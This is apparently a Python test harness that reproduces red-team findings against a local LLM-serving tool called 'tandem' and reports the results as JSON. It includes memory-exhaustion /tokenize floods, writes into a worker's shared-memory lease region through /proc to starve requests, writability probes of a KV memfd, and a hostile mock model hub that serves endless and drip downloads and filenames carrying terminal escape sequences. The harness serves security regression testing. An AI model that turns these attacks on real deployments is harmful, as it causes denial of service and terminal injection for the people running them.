#!/usr/bin/env python3
"""Re-runs the reproductions of findings 5-8 of the 2026-12-03 red-team run
(shared/reference/findings-2026-12-03.md) against a tandem binary, and prints
what it measured as JSON. Standard library only; Linux only (it reads /proc).

  redteam-harden.py tokenize --tandem BIN --model GGUF [--mode serve|up] [--conc 8] [--mb 8 | --bytes N]
      8 concurrent /tokenize requests of 8 MB of digits (one token a digit in
      the Qwen 2/3 pre-tokenizer): each answer's status, time and first bytes,
      and the worker's RSS before and its peak during the run (polled).
  redteam-harden.py lease --tandem BIN --model GGUF [--seconds 15]
      `tandem up --lend-cores`; a victim streams completions through the
      router; the core lease region (the decode worker's fd 3) gets every
      slot's count set to 255 every 10 ms for --seconds; the victim's worst
      inter-token gap and request times before, during and after, a 2-token
      request after the writes stop, the workers' /health and
      tandem_core_lease_* metrics over time.
  redteam-harden.py kvsource --tandem BIN --model GGUF
      `tandem up`; opens prefill's KV source memfd (/proc/PID/fd/N) read-write
      and tries a shared writable mapping and a write(2) of the byte already
      there (harmless if it works).
  redteam-harden.py hub --tandem BIN [--cap 45] [--max-bytes 1G]
      a hostile hub on 127.0.0.1: an endless body without a length, a
      one-byte-every-2-s drip, a file name and an error message with terminal
      escapes, 100 000 candidate names; runs `tandem pull` against each (at
      most --cap seconds) and reports the outcome, bytes written and escape
      bytes printed.

Every process it starts is stopped (SIGINT, then SIGKILL) by its own pid.
"""

import argparse
import hashlib
import http.server
import json
import mmap
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rss_kb(pid, field="VmRSS"):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def http_get(url, timeout=5):
    try:
        with urllib.request.urlopen(url, timeout=timeout) as r:
            return r.status, r.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode("utf-8", "replace")
    except Exception as e:  # noqa: BLE001 - any failure is a result here
        return None, str(e)


def post(url, body, timeout):
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    t0 = time.monotonic()
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            data = r.read()
            return r.status, time.monotonic() - t0, data
    except urllib.error.HTTPError as e:
        return e.code, time.monotonic() - t0, e.read()
    except Exception as e:  # noqa: BLE001
        return None, time.monotonic() - t0, str(e).encode()


class Cluster:
    """A `tandem serve` or `tandem up` started by this script."""

    def __init__(self, tandem, model, mode, extra=()):
        self.port = free_port()
        self.log = tempfile.NamedTemporaryFile(prefix="tandem-", suffix=".log", delete=False)
        cmd = [tandem, mode, "--model", model, "--port", str(self.port)] + list(extra)
        if mode == "serve":
            cmd += ["--threads", "2"]
        self.proc = subprocess.Popen(cmd, stdout=self.log, stderr=subprocess.STDOUT, start_new_session=True)
        self.mode = mode
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:
            st, _ = http_get(self.url("/health"), timeout=2)
            if st == 200:
                break
            if self.proc.poll() is not None:
                raise SystemExit(f"{mode} exited: see {self.log.name}")
            time.sleep(0.5)
        else:
            self.stop()
            raise SystemExit(f"{mode} not healthy after 180 s: see {self.log.name}")
        time.sleep(1)

    def url(self, path):
        return f"http://127.0.0.1:{self.port}{path}"

    def child(self, role):
        """pid and HTTP port of the child worker of role (tandem up)."""
        if self.mode == "serve":
            return self.proc.pid, self.port
        out = subprocess.run(["pgrep", "-P", str(self.proc.pid)], capture_output=True, text=True).stdout.split()
        for pid in out:
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read().decode().split("\0")
            except OSError:
                continue
            if len(argv) > 1 and argv[1] == role:
                return int(pid), int(argv[argv.index("--port") + 1])
        raise SystemExit(f"no {role} child of {self.proc.pid}")

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGINT)
            try:
                self.proc.wait(30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


def cmd_tokenize(a):
    c = Cluster(a.tandem, a.model, a.mode)
    try:
        wpid, _ = c.child("decode") if a.mode == "up" else (c.proc.pid, c.port)
        rpid = c.child("route")[0] if a.mode == "up" else None
        n = a.bytes or a.mb * 1_000_000
        body = json.dumps({"prompt": ("0123456789" * (n // 10 + 1))[:n]}).encode()
        base = {"worker": rss_kb(wpid), "router": rss_kb(rpid) if rpid else None}
        peak = dict(base)
        stop = threading.Event()

        def poll():
            while not stop.is_set():
                for k, pid in (("worker", wpid), ("router", rpid)):
                    if pid:
                        v = rss_kb(pid)
                        if v and v > (peak[k] or 0):
                            peak[k] = v
                time.sleep(0.05)

        pt = threading.Thread(target=poll)
        pt.start()
        results = [None] * a.conc

        def one(i):
            st, took, data = post(c.url("/tokenize"), body, timeout=120)
            results[i] = {"status": st, "seconds": round(took, 2), "bytes": len(data),
                          "answer": data[:220].decode("utf-8", "replace")}

        t0 = time.monotonic()
        ts = [threading.Thread(target=one, args=(i,)) for i in range(a.conc)]
        for t in ts:
            t.start()
        for t in ts:
            t.join()
        wall = time.monotonic() - t0
        time.sleep(0.5)
        stop.set()
        pt.join()
        print(json.dumps({"mode": a.mode, "requests": a.conc, "prompt_bytes": len(body), "wall_seconds": round(wall, 2),
                          "rss_before_mb": {k: v and round(v / 1024) for k, v in base.items()},
                          "rss_peak_mb": {k: v and round(v / 1024) for k, v in peak.items()},
                          "answers": results}, indent=1))
    finally:
        c.stop()


def metrics(port, prefix="tandem_core_lease_"):
    st, text = http_get(f"http://127.0.0.1:{port}/metrics")
    out = {}
    if st == 200:
        for line in text.splitlines():
            if line.startswith(prefix):
                name, _, v = line.rpartition(" ")
                out[name[len(prefix):]] = float(v)
    return out


def cmd_lease(a):
    c = Cluster(a.tandem, a.model, "up", ["--lend-cores"])
    try:
        dpid, dport = c.child("decode")
        _, pport = c.child("prefill")
        events = []  # (t, phase, kind, value)
        t0 = time.monotonic()
        phase = ["before"]
        stop = threading.Event()

        def victim():
            body = json.dumps({"prompt": "Once upon a time", "max_tokens": 32, "temperature": 0, "stream": True}).encode()
            while not stop.is_set():
                req = urllib.request.Request(c.url("/v1/completions"), data=body, headers={"Content-Type": "application/json"})
                start = last = time.monotonic()
                ph = phase[0]
                gap = 0.0
                try:
                    with urllib.request.urlopen(req, timeout=a.timeout) as r:
                        for line in r:
                            if line.startswith(b"data: ") and line.strip() != b"data: [DONE]":
                                now = time.monotonic()
                                gap = max(gap, now - last)
                                last = now
                    events.append((start - t0, ph, "request", time.monotonic() - start, gap))
                except Exception as e:  # noqa: BLE001
                    events.append((start - t0, ph, "error", time.monotonic() - start, str(e)))

        health = []

        def watch():
            while not stop.is_set():
                for role, port in (("decode", dport), ("prefill", pport)):
                    st, text = http_get(f"http://127.0.0.1:{port}/health", timeout=2)
                    health.append((round(time.monotonic() - t0, 1), role, st, text[:400]))
                time.sleep(0.5)

        vt, wt = threading.Thread(target=victim), threading.Thread(target=watch)
        vt.start()
        wt.start()
        snap = {"before": None, "during": None, "after": None}
        time.sleep(5)
        snap["before"] = {"decode": metrics(dport), "prefill": metrics(pport)}
        fd = os.open(f"/proc/{dpid}/fd/3", os.O_RDWR)
        mem = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        os.close(fd)
        phase[0] = "during"
        w0 = time.monotonic()
        while time.monotonic() - w0 < a.seconds:
            mem[16:24] = b"\xff" * 8  # the alloc word: every slot holds 255 cores
            time.sleep(0.01)
        mem.close()
        stopped = time.monotonic() - t0
        snap["during"] = {"decode": metrics(dport), "prefill": metrics(pport)}
        phase[0] = "after"
        two = post(c.url("/v1/completions"), json.dumps({"prompt": "Hi", "max_tokens": 2, "temperature": 0}).encode(), a.timeout)
        time.sleep(20)
        snap["after"] = {"decode": metrics(dport), "prefill": metrics(pport)}
        stop.set()
        wt.join()
        c.stop()  # ends a victim stream that is still stuck
        vt.join()
        summary = {}
        for ph in ("before", "during", "after"):
            reqs = [e for e in events if e[1] == ph and e[2] == "request"]
            errs = [e for e in events if e[1] == ph and e[2] == "error"]
            summary[ph] = {"requests": len(reqs), "errors": len(errs),
                           "worst_request_seconds": round(max((e[3] for e in reqs), default=0), 2),
                           "worst_gap_seconds": round(max((e[4] for e in reqs), default=0), 3)}
        # health: first non-ok and last non-ok times per role
        bad = [h for h in health if not (h[2] == 200 and '"ok"' in h[3])]
        print(json.dumps({"writes_seconds": a.seconds, "writes_stopped_at": round(stopped, 1), "victim": summary,
                          "two_token_after_writes": {"status": two[0], "seconds": round(two[1], 2)},
                          "metrics": snap,
                          "health_not_ok": {"count": len(bad), "first": bad[:1], "last": bad[-1:],
                                            "samples": len(health)}}, indent=1))
    finally:
        c.stop()


def cmd_kvsource(a):
    c = Cluster(a.tandem, a.model, "up", ["--pd-threshold", "0"])
    try:
        # Disaggregated requests, so decode has mapped the source and read KV from it.
        answers = [post(c.url("/v1/completions"), json.dumps({"prompt": "Hello there", "max_tokens": 2}).encode(), 120)[0]
                   for _ in range(3)]
        ppid, _ = c.child("prefill")
        _, dport = c.child("decode")
        src = {k: v for k, v in metrics(dport, "tandem_transfer_events_total").items() if "shm_src" in k or "source" in k}
        out = {"prefill_pid": ppid, "answers": answers, "decode_source_counters": src, "regions": []}
        for fdn in os.listdir(f"/proc/{ppid}/fd"):
            path = f"/proc/{ppid}/fd/{fdn}"
            try:
                target = os.readlink(path)
            except OSError:
                continue
            if not target.startswith("/memfd:tandem-kv-"):
                continue
            r = {"fd": int(fdn), "target": target}
            try:
                fd = os.open(path, os.O_RDWR)
                r["open_rdwr"] = "ok"
            except OSError as e:
                r["open_rdwr"] = f"refused: {e}"
                out["regions"].append(r)
                continue
            size = os.fstat(fd).st_size
            r["bytes"] = size
            try:
                m = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
                r["mmap_shared_writable"] = "ok (writable)"
                m.close()
            except OSError as e:
                r["mmap_shared_writable"] = f"refused: {e}"
            try:
                b = os.pread(fd, 1, size - 1)
                os.pwrite(fd, b, size - 1)  # the same byte back
                r["pwrite"] = "ok (writable)"
            except OSError as e:
                r["pwrite"] = f"refused: {e}"
            os.close(fd)
            out["regions"].append(r)
        print(json.dumps(out, indent=1))
    finally:
        c.stop()


EVIL = "a\x1b]0;PWNED\x07\x1b[2J-Q4_K_M.gguf"
CONTENT = bytes(range(256)) * 4  # 1 KiB
SHA = hashlib.sha256(CONTENT).hexdigest()
STATE = {"sent": 0}


class EvilHub(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"  # bodies without a length end when the connection does

    def log_message(self, *args):
        pass

    def send(self, code, body, ctype="application/json", headers=()):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        p = self.path.split("?")[0]
        m = re.match(r"^/api/models/org/([^/]+)", p)
        if m:
            repo = m.group(1)
            if repo == "err":
                return self.send(403, json.dumps({"error": "\x1b[31mdenied\x1b[0m\r\x1b[2Kfine"}).encode())
            if repo == "many":
                names = [f"m{chr(27) * (i % 3)}-{i}.gguf" for i in range(100_000)]
            elif repo == "evil":
                names = [EVIL]
            else:
                names = [f"{repo}-Q4_K_M.gguf"]
            return self.send(200, json.dumps({"siblings": [{"rfilename": n} for n in names]}).encode())
        m = re.match(r"^/org/([^/]+)/resolve/main/(.+)$", p)
        if m:
            repo = m.group(1)
            h = [("X-Linked-Etag", f'"{SHA}"'), ("Location", f"/cdn/{repo}")]
            if repo != "endless":
                h.append(("X-Linked-Size", str(len(CONTENT))))
            return self.send(302, b"", headers=h)
        if p == "/cdn/endless":
            self.send_response(200)
            self.end_headers()
            chunk = b"\0" * (1 << 20)
            try:
                while True:
                    self.wfile.write(chunk)
                    STATE["sent"] += len(chunk)
            except OSError:
                return
        if p == "/cdn/drip":
            self.send_response(200)
            self.send_header("Content-Length", str(len(CONTENT)))
            self.end_headers()
            try:
                for b in CONTENT:
                    self.wfile.write(bytes([b]))
                    self.wfile.flush()
                    time.sleep(2)
            except OSError:
                return
            return
        if p.startswith("/cdn/"):
            return self.send(200, CONTENT, "application/octet-stream")
        self.send(404, b'{"error":"not found"}')


def cmd_hub(a):
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), EvilHub)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    endpoint = f"http://127.0.0.1:{srv.server_address[1]}"
    out = {}
    for case in ("endless", "drip", "evil", "err", "many"):
        home = tempfile.mkdtemp(prefix="tandem-hub-")
        env = dict(os.environ, TANDEM_HOME=home, HF_ENDPOINT=endpoint)
        if a.max_bytes:
            env["TANDEM_PULL_MAX_BYTES"] = a.max_bytes
        env.pop("HF_TOKEN", None)
        STATE["sent"] = 0
        t0 = time.monotonic()
        p = subprocess.Popen([a.tandem, "pull", f"hf.co/org/{case}"], env=env, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, start_new_session=True)
        try:
            so, se = p.communicate(timeout=a.cap)
            rc = p.returncode
        except subprocess.TimeoutExpired:
            p.send_signal(signal.SIGINT)
            try:
                so, se = p.communicate(timeout=10)
            except subprocess.TimeoutExpired:
                p.kill()
                so, se = p.communicate()
            rc = f"still running after {a.cap} s (stopped)"
        took = time.monotonic() - t0
        written = 0
        for root, _, files in os.walk(home):
            for f in files:
                written += os.path.getsize(os.path.join(root, f))
        text = so + se
        last = [ln for ln in text.decode("utf-8", "replace").splitlines() if ln.strip()][-1:] if text else []
        out[case] = {"exit": rc, "seconds": round(took, 1), "bytes_left_in_cache": written, "hub_sent_bytes": STATE["sent"],
                     "output_bytes": len(text), "raw_escape_bytes_printed": text.count(b"\x1b") + text.count(b"\x07"),
                     "last_line": last[0][:400] if last else ""}
        subprocess.run(["rm", "-rf", home])
    srv.shutdown()
    print(json.dumps(out, indent=1))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    for name in ("tokenize", "lease", "kvsource", "hub"):
        s = sub.add_parser(name)
        s.add_argument("--tandem", required=True)
        if name != "hub":
            s.add_argument("--model", required=True)
    sub.choices["tokenize"].add_argument("--mode", choices=["serve", "up"], default="serve")
    sub.choices["tokenize"].add_argument("--conc", type=int, default=8)
    sub.choices["tokenize"].add_argument("--mb", type=int, default=8)
    sub.choices["tokenize"].add_argument("--bytes", type=int, default=0, help="prompt bytes (instead of --mb)")
    sub.choices["lease"].add_argument("--seconds", type=float, default=15)
    sub.choices["lease"].add_argument("--timeout", type=float, default=60, help="per request")
    sub.choices["hub"].add_argument("--cap", type=float, default=45)
    sub.choices["hub"].add_argument("--max-bytes", default="", help="TANDEM_PULL_MAX_BYTES for the pulls (default: the binary's)")
    a = ap.parse_args()
    {"tokenize": cmd_tokenize, "lease": cmd_lease, "kvsource": cmd_kvsource, "hub": cmd_hub}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
